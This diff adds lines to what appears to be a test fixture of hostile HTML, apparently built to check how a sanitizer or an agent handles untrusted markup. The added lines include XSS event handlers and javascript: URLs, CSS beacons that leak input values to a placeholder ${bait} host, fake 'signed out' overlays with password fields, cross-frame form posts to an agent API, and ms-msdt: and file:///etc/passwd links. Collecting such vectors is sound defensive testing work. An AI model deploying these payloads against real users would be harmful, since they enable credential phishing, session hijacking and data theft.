@@ -157,6 +157,20 @@ Your session has ended. <input autofocus onfocus="${run}" placeholder="Password"
 <table background="${bait}/table"><tr><td style="background-image:url('${bait}/cell')">cell</td></tr></table>
 <details open ontoggle="${run}"><summary>more</summary>text</details><marquee onstart="${run}">moving</marquee>
 <math><mi xlink:href="javascript:${run}">math</mi></math><style></style><img title="</style><script>${run}</script>">
+<a href="#top" ping="${bait}/ping">ping</a> <a href="/api/v1/conversations" target="_top">own</a>
+<form action="/api/v1/agents/me" method="post" target="_top" id="own"><input name="x"></form><button form="own">Update</button>
+<svg><a><animate attributeName="href" values="javascript:${run}" /><text y="40">animated</text></a><foreignObject><iframe src="${bait}/foreign"></iframe></foreignObject></svg>
+<dialog open style="inset:0;width:100vw;height:100vh">Signed out. <input type="password" autofocus></dialog>
+<div popover id="pop">over</div><button popovertarget="pop">pop</button>
+<style>body::before { content: "You are signed out"; position: fixed; inset: 0; z-index: 99 } input[value^="a"] { background: url(${bait}/leak) }
+@keyframes k { from { background-image: url(${bait}/key) } } p { animation: k 1s } li { list-style-image: url(${bait}/list); content: image-set("${bait}/set" 1x) }</style>
+<link rel="manifest" href="${bait}/manifest"><link rel="icon" href="${bait}/icon"><link rel="modulepreload" href="${bait}/module">
+<script type="speculationrules">{"prefetch":[{"source":"list","urls":["${bait}/speculation"]}]}</script>
+<script type="importmap">{"imports":{"x":"${bait}/map"}}</script><script type="module">import "${bait}/esm"</script>
+<frameset><frame src="${bait}/frame"></frameset><applet code="${bait}/applet"></applet><portal src="${bait}/portal"></portal>
+<img src="${bait}/lazy" loading="lazy" longdesc="${bait}/longdesc" usemap="#m"><map name="m"><area href="javascript:${run}" coords="0,0,9,9"></map>
+<a href="intent://x#Intent;scheme=http;end">intent</a> <a href="ms-msdt:/id x">protocol</a> <a href="file:///etc/passwd">file</a>
+<textarea autofocus onfocus="${run}"></textarea><select autofocus onfocus="${run}"></select><keygen autofocus onfocus="${run}">
 <noscript><p title="</noscript><img src=x onerror=${run}>"></noscript>
 </body></html>`
 }
